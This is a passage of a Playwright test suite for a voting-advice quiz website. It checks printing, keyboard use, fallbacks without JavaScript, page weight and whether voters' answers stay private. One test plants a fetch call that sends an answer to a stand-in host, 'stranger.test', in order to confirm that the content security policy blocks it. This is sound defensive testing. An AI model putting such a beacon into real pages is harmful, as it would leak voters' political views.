        for leftover in (".quiz__bar", "#results", ".choice--skip", "select", "summary", "noscript *", ".button"):
            assert not seen_on_paper(page, leftover), leftover


def test_a_quiz_is_printed_with_its_answers_weights_and_results(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}, {"free-buses": 2}))

    page.emulate_media(media="print")

    assert page.locator("select:visible").count() == 1
    assert page.locator(".result:visible").count() == 7 and page.locator(".part").first.is_visible()
    assert not seen_on_paper(page, ".quiz__bar, .results__end, .choice--skip")


def test_on_a_low_screen_the_bar_stands_still(page: Page, served: Served, example_site: Path) -> None:
    page.set_viewport_size({"width": 320, "height": 256})

    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.evaluate("getComputedStyle(document.querySelector('.quiz__bar')).position") == "static"


def test_the_quiz_can_be_done_with_the_keyboard_alone(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/high-orchards/quiz/")
    questions = page.locator("fieldset").count()

    for _ in range(400):
        page.keyboard.press("Tab")
        focused = page.evaluate("[document.activeElement.type, document.activeElement.getAttribute('href')]")
        if focused[0] == "radio":
            page.keyboard.press("Space")
            page.keyboard.press("ArrowDown")
        if focused[1] == "#results":
            page.keyboard.press("Enter")
            break
    expect(page.locator("#results")).to_be_focused()
    for _ in range(30):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.matches('.result summary')"):
            page.keyboard.press("Enter")
            break
    page.wait_for_selector(".result .part")

    assert page.locator("input:checked").count() == questions
    assert page.locator(".result details[open] .part").count() == questions


def test_nothing_that_is_focused_hides_behind_the_bar(page: Page, served: Served, example_site: Path) -> None:
    page.set_viewport_size({"width": 360, "height": 640})
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    hidden = []
    for _ in range(60):
        page.keyboard.press("Tab")
        hidden.append(
            page.evaluate("""() => {
              const bar = document.querySelector(".quiz__bar").getBoundingClientRect();
              const focused = document.activeElement;
              const box = (focused.closest("label") ?? focused).getBoundingClientRect();
              return !focused.closest(".quiz__bar") && focused.closest("form") !== null && box.bottom > bar.top + 1;
            }""")
        )

    assert not any(hidden)


def requests_of(page: Page, address: str, option: int) -> list[str]:
    """Everything that a visit asks for in which the voter takes one option everywhere."""
    log: list[str] = []
    page.on("request", lambda request: log.append(f"{request.method} {request.url} {request.post_data}"))
    open_quiz(page, address)
    for question in page.locator("fieldset").all():
        question.locator("input").nth(option).check()
    for summary in page.locator(".result summary").all():
        summary.click()
    # A browser asks for the icon when it likes; and what is sent a moment later would be seen too.
    until(lambda: any("/icon.svg" in each for each in log), page)
    page.wait_for_timeout(200)
    return log


def test_two_voters_of_opposite_views_ask_for_the_same_and_leave_nothing_behind(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    address = f"{served(example_site)}/riverland-2027/high-orchards/quiz/"
    first, second = new_page(), new_page()

    one, other = requests_of(first, address, 0), requests_of(second, address, 1)

    assert sorted(one) == sorted(other) and len(one) > 3
    data = [re.fullmatch(r"GET .*/(\w+)\.json\?[0-9a-f]{16} None", each) for each in one if ".json" in each]
    assert [each and each[1] for each in data] == ["quiz", "notes"]
    for page in (first, second):
        assert page.context.cookies() == []
        kept = page.evaluate("[localStorage.length, sessionStorage.length, location.search, location.hash]")
        assert kept == [0, 0, "", ""]
        assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0


def test_the_watch_on_requests_sees_a_planted_one(browser: Browser, served: Served, example_site: Path) -> None:
    log: dict[bool, list[str]] = {True: [], False: []}
    for without_policy, asked in log.items():
        page = browser.new_context(bypass_csp=without_policy).new_page()
        page.on("request", lambda each, asked=asked: asked.append(each.url))
        page.route("http://stranger.test/**", lambda route: route.abort())
        page.goto(f"{served(example_site)}/riverland-2027/high-orchards/")
        page.evaluate("fetch('http://stranger.test/?answer=agree').catch(() => null)")
        page.context.close()

    # The page's policy stops it before it leaves; without the policy the watch sees it.
    assert not any("stranger.test" in each for each in log[False])
    assert "http://stranger.test/?answer=agree" in log[True]


def test_a_question_may_be_called_as_any_property_of_a_form_or_as_another_ones_weight(
    page: Page, served: Served, tmp_path: Path
) -> None:
    page.goto("about:blank")
    names = page.evaluate(
        """() => {
          const names = [];
          for (const name in document.createElement("form")) if (/^[a-z0-9]+$/.test(name)) names.push(name);
          return names;
        }"""
    )
    assert {"dataset", "reset", "elements"} < {*names}
    ids = ["free-buses", "weight-free-buses", "answer-free-buses", *names]
    files = {
        "questionnaires/demo/questions.yaml": "".join(f"- id: {id_}\n  text: Is it {id_}?\n" for id_ in ids),
        "candidates/demo/south/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n",
    }
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/south/quiz/")
    count = page.locator(".quiz__count")

    assert count.inner_text() == f"Answered: 0 of {len(ids)}"
    answer(page, Voter({"weight-free-buses": 0, "answer-free-buses": 0, "free-buses": 3}))
    assert count.inner_text() == f"Answered: 3 of {len(ids)}"
    assert [each["answered"] for each in (*shown(page)["results"], *shown(page)["apart"])] == [3]
    page.locator(".results__end summary").click()
    page.locator("[data-slot=clear]").click()
    assert count.inner_text() == f"Answered: 0 of {len(ids)}"


def test_data_of_another_generation_is_not_scored_with(page: Page, served: Served, example_site: Path) -> None:
    def older(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, json={**response.json(), "generation": "0000000000000000"})

    page.route("**/quiz.json*", older)
    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.locator("[data-slot=outdated]").wait_for(state="visible")

    assert not page.locator("#results").is_visible()


def test_without_javascript_the_questions_can_be_read_and_the_way_to_the_answers_is_told(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    page = new_page(java_script_enabled=False)

    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.locator("fieldset").count() == 15
    plain = page.locator(".quiz-plain")
    assert plain.is_visible()
    assert plain.locator("a").get_attribute("href") == "../../../riverland-2027/north-bank/#answers"
    assert not page.locator(".quiz__bar").is_visible() and not page.locator("#results").is_visible()
    assert gap(page, "h1", ".quiz-plain .notice") >= 8


def open_with_a_fault(page: Page, address: str, logged: str) -> None:
    """Open a quiz, and wait until the browser has logged that it does not work."""
    with page.expect_console_message(lambda each: each.type == "error" and each.text.startswith(logged)):
        page.goto(address)


@pytest.mark.parametrize(("script", "logged"), [("main", "Failed to load"), ("quiz", "quiz"), ("rank", "quiz")])
def test_where_a_script_does_not_load_the_page_says_what_it_says_without_javascript(
    unwatched: Page, served: Served, example_site: Path, script: str, logged: str
) -> None:
    page = unwatched
    page.route(f"**/{script}.js", lambda route: route.abort())

    open_with_a_fault(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/", logged)

    assert page.locator(".quiz-plain").is_visible() and not page.locator(".lede").is_visible()
    assert not page.locator(".quiz__bar").is_visible() and not page.locator("#results").is_visible()


def test_where_a_script_fails_the_page_says_what_it_says_without_javascript(
    unwatched: Page, served: Served, example_site: Path
) -> None:
    def broken(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, json={**response.json(), "candidates": None})

    page = unwatched
    page.route("**/quiz.json*", broken)

    open_with_a_fault(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/", "quiz")

    assert page.locator(".quiz-plain").is_visible() and not page.locator(".quiz__bar").is_visible()


def test_where_the_comparison_works_the_page_does_not_say_what_it_would_without_javascript(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert not page.locator(".quiz-plain").is_visible() and page.locator(".lede").is_visible()


def candidates(count: int, answers: str) -> dict[str, str]:
    """That many candidates of the north, each with these lines below `answers:`."""
    return {
        f"candidates/demo/north/c{number:02}.yaml": f"name: Candidate {number}\nreply: answered\nanswers:\n{answers}"
        for number in range(count)
    }


@pytest.mark.parametrize(
    ("count", "answers", "ranked", "apart"),
    [
        pytest.param(1, "  free-buses: agree\n", 1, 0, id="one candidate"),
        pytest.param(3, "", 0, 3, id="no answers at all"),
        pytest.param(40, "  free-buses: agree\n", 40, 0, id="forty candidates, all tied"),
    ],
)
def test_a_constituency_of_any_size_has_a_sensible_quiz(
    page: Page, served: Served, tmp_path: Path, count: int, answers: str, ranked: int, apart: int
) -> None:
    project = write_project(tmp_path / "project", candidates(count, answers))
    site = build_site(project, tmp_path / "site")

    open_quiz(page, f"{served(site)}/demo/north/quiz/")
    answer(page, Voter({"free-buses": 3}))

    outcome = shown(page)
    assert len(outcome["results"]) == ranked and len(outcome["apart"]) == apart
    assert {each["rank"] for each in outcome["results"]} <= {1}
    assert all(each["tied"] == (ranked > 1) for each in outcome["results"])
    page.goto(f"{served(site)}/demo/north/")
    assert page.locator(".card").count() == count
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_constituency_without_candidates_says_so(page: Page, served: Served, tmp_path: Path) -> None:
    site = build_site(write_project(tmp_path / "project", {}), tmp_path / "site")

    page.goto(f"{served(site)}/demo/north/quiz/")

    assert page.locator(".notice").count() == 1 and page.locator("fieldset").count() == 0
    page.goto(f"{served(site)}/demo/north/")
    assert page.locator("main .button").count() == 0


def test_the_quiz_of_eight_candidates_and_thirty_questions_weighs_at_most_60_kb(tmp_path: Path) -> None:
    chance = random.Random(8)
    words = (ROOT / "content/pages/about.md").read_text(encoding="utf-8").split()

    def prose(length: int) -> str:
        return re.sub(r"[^\w ,.]", "", " ".join(chance.choices(words, k=length))).replace("_", "")

    questions = "".join(
        f"- id: question-{number}\n  topic: transport\n  text: |\n    {prose(12)}\n  background: |\n    {prose(40)}\n"
        for number in range(30)
    )
    options = ["strongly-disagree", "disagree", "neutral", "agree", "strongly-agree"]
    standing = {
        f"candidates/demo/south/c{candidate}.yaml": f"name: Candidate {candidate}\nreply: answered\nanswers:\n"
        + "".join(
            f"  question-{number}:\n    position: {chance.choice(options)}\n    comment: |\n      {prose(25)}\n"
            if chance.random() < 0.4
            else f"  question-{number}: {chance.choice(options)}\n"
            for number in range(30)
        )
        for candidate in range(8)
    }
    files = {"questionnaires/demo/questions.yaml": questions, **standing}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    quiz = site / "demo/south/quiz"
    scripts = (site / "static/js").glob("*.js")

    parts = [quiz / "index.html", quiz / "quiz.json", quiz / "notes.json", site / "static/css/main.css", *scripts]
    weight = sum(len(gzip.compress(part.read_bytes(), 6)) for part in parts)

    assert weight <= 60_000
